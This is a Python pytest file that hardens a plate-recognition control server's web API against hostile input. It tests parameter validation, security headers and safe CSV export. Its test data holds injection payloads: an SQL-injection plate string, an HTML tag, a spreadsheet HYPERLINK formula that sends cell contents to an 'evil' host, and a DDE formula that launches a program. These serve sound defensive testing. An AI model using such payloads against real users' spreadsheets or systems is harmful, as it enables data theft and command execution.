"""The page's API against hostile input (issue 17 B): bounded, validated parameters, CSP, safe CSV, cars."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from helpers.control import Car, ServeProcess, free_port, get_json, get_status, wait_until, write_config
from helpers.uplink import Mosquitto, make_event

from anpr.uplink.wire import event_to_dict

pytestmark = pytest.mark.slow


@pytest.fixture
def served(tmp_path: Path, broker: Mosquitto) -> Iterator[tuple[ServeProcess, Car, Path]]:
    web = free_port()
    db = tmp_path / "control.sqlite"
    serve = ServeProcess(write_config(tmp_path / "c.toml", broker.port, web, f"sqlite:///{db}"), web, tmp_path / "log")
    car = Car(broker.port)
    yield serve, car, db
    car.close()
    assert serve.stop() == 0


BAD = [
    ("/api/quarantine?limit=abc", "limit 'abc'"),
    ("/api/quarantine?limit=-1", "expected 1..1000"),
    ("/api/quarantine?limit=100000", "expected 1..1000"),
    ("/api/events?limit=abc", "limit 'abc'"),
    ("/api/events?limit=0", "expected 1.."),
    ("/api/events?since=nan", "out of range"),
    ("/api/events?until=1e999", "out of range"),
    ("/api/events?bbox=nan,0,1,1", "bbox"),
    ("/api/events?device=%3Cimg%3E", "device '<img>'"),
    ("/api/events?order=sideways", "order 'sideways'"),
    ("/api/events?kind=both", "kind 'both'"),
    ("/api/events?plate=%27%20OR%201%3D1", "plate pattern"),
    ("/api/events?sort=plate", "unknown parameter 'sort'"),
    ("/api/export.xlsx", "format 'xlsx'"),
    ("/api/crop/not-a-uuid", "event id"),
]


def test_bad_parameters_are_a_400_that_says_why(served: tuple[ServeProcess, Car, Path]) -> None:
    serve, _car, _db = served
    for path, says in BAD:
        status, body = get_status(serve.url + path)
        assert status == 400, (path, body)
        assert says in json.loads(body)["error"], path


def test_every_response_carries_the_csp(served: tuple[ServeProcess, Car, Path]) -> None:
    serve, _car, _db = served
    for path in ("/", "/api/cars", "/static/app.js", "/api/events?limit=abc"):
        try:
            r = urllib.request.urlopen(serve.url + path, timeout=10)
            headers = r.headers
        except urllib.error.HTTPError as err:
            headers = err.headers
        csp = headers["Content-Security-Policy"]
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
        assert headers["X-Content-Type-Options"] == "nosniff" and headers["X-Frame-Options"] == "DENY"
    page = urllib.request.urlopen(serve.url + "/", timeout=10).read().decode()
    assert "<script>" not in page and " on" not in page.split("<body")[1].split(">")[0]  # no inline script


def test_csv_export_neutralises_formula_cells(served: tuple[ServeProcess, Car, Path]) -> None:
    serve, car, _db = served
    d = event_to_dict(make_event("hit", device="car-7"))
    d["camera_id"] = '=HYPERLINK("http://evil/?"&A1,"click")'
    d["match"]["entry"]["reason"] = "+1+cmd|' /C calc'!A0"
    d["match"]["entry"]["list_name"] = "@SUM(1)"
    d["match"]["entry"]["source"] = "-2"
    car.send("anpr/car-7/hit", json.dumps(d).encode())
    assert wait_until(lambda: get_json(serve.url + "/api/stats")["store"]["hits"] == 1, 5)
    status, body = get_status(serve.url + "/api/export.csv?kind=hit")
    assert status == 200
    (row,) = list(csv.DictReader(io.StringIO(body.decode())))
    assert row["camera_id"] == "'" + d["camera_id"]
    assert row["reason"].startswith("'+") and row["list_name"].startswith("'@")
    assert float(row["lat"]) < 0 and not row["lat"].startswith("'")  # numbers stay numbers


def test_cars_answer_with_a_bad_status_stored_by_an_older_version(served: tuple[ServeProcess, Car, Path]) -> None:
    serve, car, db = served
    car.send("anpr/car-7/status", b'{"state":"online","device_id":"car-7","outbox":{"pending_hits":2}}', retain=True)
    car.send("anpr/car-8/status", b'{"state":"online","outbox":{"pending_hits":"lots"}}', retain=True)
    assert wait_until(lambda: len(get_json(serve.url + "/api/cars")) == 1, 5)
    assert get_json(serve.url + "/api/quarantine")[0]["reason"].startswith("status schema: outbox/pending_hits")
    # what main stored before statuses were checked
    con = sqlite3.connect(db)
    con.execute("INSERT INTO cars (device_id, state, status) VALUES ('car-9', 'online', ?)",
                ('{"state":"online","outbox":{"pending_hits":"lots"},"fix":{"lat":"x"}}',))  # fmt: skip
    con.commit()
    con.close()
    status, body = get_status(serve.url + "/api/cars")
    assert status == 200
    cars = {c["device_id"]: c for c in json.loads(body)}
    assert cars["car-7"]["outbox_depth"] == 2 and cars["car-9"]["status_refused"] is True
